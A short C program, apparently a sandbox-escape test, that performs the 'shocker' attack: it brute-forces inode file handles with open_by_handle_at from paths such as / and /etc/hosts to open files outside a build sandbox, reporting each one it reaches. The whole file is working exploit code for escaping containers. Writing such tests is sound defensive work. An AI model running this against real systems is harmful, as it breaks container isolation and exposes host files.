// Opens the builder's files by guessing their handles (the "shocker" attack).
#include "attack.h"

int main(void) {
    struct { struct file_handle head; unsigned char bytes[8]; } handle = { 0 };
    const char *mounts[] = { "/", "/etc/hosts", "/etc/resolv.conf", "/dev", "/sys", "/proc" };
    for (size_t m = 0; m < sizeof mounts / sizeof *mounts; m++) {
        int mount = open(mounts[m], O_RDONLY);
        for (uint32_t inode = 1; inode < 3000; inode++) {
            handle.head.handle_bytes = 8;
            handle.head.handle_type = 1; // FILEID_INO32_GEN
            memcpy(handle.bytes, &inode, 4);
            memset(handle.bytes + 4, 0, 4);
            int fd = open_by_handle_at(mount, &handle.head, O_RDONLY);
            if (fd >= 0) {
                REACHED("inode %u below %s", inode, mounts[m]);
                close(fd);
                break;
            }
        }
        close(mount);
    }
    return over();
}
